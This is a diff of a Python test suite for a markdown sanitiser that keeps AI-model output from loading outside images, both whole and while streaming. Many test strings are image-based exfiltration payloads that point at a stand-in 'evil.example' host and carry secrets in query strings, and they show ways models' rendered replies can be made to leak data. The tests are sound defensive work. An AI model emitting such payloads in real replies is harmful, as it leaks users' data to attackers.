@@ -1,50 +1,80 @@
-"""Model output shown without fetching outside addresses: markdown images become links, even mid-stream."""
+"""Model output shown without fetching outside addresses: no markdown image survives, even mid-stream.
+
+The oracle is a real CommonMark renderer (markdown-it-py): whatever the text, it renders no `<img>`.
+"""
 
 from __future__ import annotations
 
-import re
-
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from catalog.playground import stream_without_images, without_images
 
-IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)")
-DEFINITION = re.compile(r"^ {0,3}\[[^\]\n]+\]:", re.MULTILINE)
-PIECES = ["!", "[", "]", "(", ")", "![", "](", "]: ", "\n", " ", "alt", "http://e.example/?q=s", "`", "vec![1]", "x"]
+MARKDOWN = MarkdownIt("commonmark")
+PIECES = ["!", "[", "]", "(", ")", "![", "](", "]: ", "\n", " ", "    ", "alt", "http://e.example/?q=s", "`", "```",
+          "~~~", "\\", "<", ">", "- ", "vec![1]", "x"]  # fmt: skip
 
 
-def test_inline_images_become_links():
-    shown = without_images('Look: ![cat](https://evil.example/leak?c=secret "a cat") and ![](x.png).')
-    assert shown == "Look: image [cat](https://evil.example/leak?c=secret) and image [untitled](x.png)."
+def shows_an_image(text: str) -> bool:
+    return "<img" in MARKDOWN.render(text)
 
 
-def test_reference_definitions_are_escaped_so_reference_images_never_resolve():
-    shown = without_images("![cat][c] and ![c]\n\n[c]: https://evil.example/leak\n   [d]: http://x\n[not]: later")
-    assert "\\[c]: https://evil.example/leak" in shown and "   \\[d]: http://x" in shown
-    assert DEFINITION.search(shown) is None
+@pytest.mark.parametrize(
+    "reply",
+    [
+        '![cat](https://evil.example/leak?c=secret "a cat")',
+        "![a [nested] alt](https://evil.example/x)",
+        "![alt over\ntwo lines](https://evil.example/x)",
+        "![a](<https://evil.example/with space>)",
+        "![a](https://evil.example/(parens))",
+        "[![inside a link](https://evil.example/i)](https://example.com)",
+        "![by reference][r]\n\n[r]: https://evil.example/x",
+        "![r]\n\n[r]: https://evil.example/x",
+        "\\\\![an escaped backslash, then an image](https://evil.example/x)",
+        "- a list\n  ```\n  code\n![after the list](https://evil.example/x)",
+    ],
+)
+def test_no_image_form_survives(reply):
+    assert shows_an_image(reply)
+    assert not shows_an_image(without_images(reply))
 
 
-def test_text_that_is_not_an_image_is_left_alone():
-    text = "vec![1, 2] and a [link](https://example.com) and a bang! ![x]\n(y)"
+def test_an_image_becomes_a_bang_and_a_link():
+    assert without_images("See ![chart](https://e.example/c.png).") == "See \\![chart](https://e.example/c.png)."
+    assert '<a href="https://e.example/c.png">chart</a>' in MARKDOWN.render(
+        without_images("![chart](https://e.example/c.png)")
+    )
+
+
+def test_code_blocks_are_left_as_written():
+    reply = "```rust\nlet v = vec![1, 2];\n```\n\n    indented![x](y)\n\nText `vec![1]`."
+    shown = without_images(reply)
+    assert "let v = vec![1, 2];" in shown and "    indented![x](y)" in shown
+    assert not shows_an_image(shown)
+
+
+def test_text_without_images_is_unchanged():
+    text = "A bang! [a link](https://example.com) \\![already escaped](x)"
     assert without_images(text) == text
 
 
-def test_a_streamed_image_split_anywhere_never_shows_as_an_image():
-    text = "Hi ![cat](https://evil.example/leak?q=secret) bye\n[d]: https://evil.example/p\n![r][d]"
+def test_a_streamed_image_split_anywhere_never_shows():
+    text = "Hi ![cat](https://evil.example/leak?q=secret) bye\n```\nvec![1]\n```\n![r][d]\n\n[d]: https://e.example/p"
     for cut in range(len(text)):
         shown = ""
         for piece in stream_without_images([text[:cut], text[cut:]]):
             shown += piece
-            assert IMAGE.search(shown) is None and DEFINITION.search(shown) is None
+            assert not shows_an_image(shown)
         assert shown == without_images(text)
 
 
-@settings(max_examples=400)
+@settings(max_examples=300, deadline=None)
 @given(st.lists(st.lists(st.sampled_from(PIECES), max_size=12).map("".join), max_size=8))
 def test_any_chunking_shows_the_same_text_and_no_image_at_any_moment(chunks):
     shown = ""
     for piece in stream_without_images(chunks):
         shown += piece
-        assert IMAGE.search(shown) is None and DEFINITION.search(shown) is None
+        assert not shows_an_image(shown)
     assert shown == without_images("".join(chunks))
